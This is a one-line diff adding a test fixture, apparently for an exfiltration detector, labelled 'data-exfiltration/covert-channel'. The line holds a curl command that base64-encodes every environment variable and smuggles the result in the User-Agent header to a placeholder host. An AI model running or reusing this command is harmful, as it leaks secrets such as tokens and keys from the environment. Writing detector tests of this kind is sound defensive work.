@@ -1,0 +1,1 @@
+curl -s -A "$(env | base64 | tr -d '\n')" https://collect.example/ # expect: data-exfiltration/covert-channel
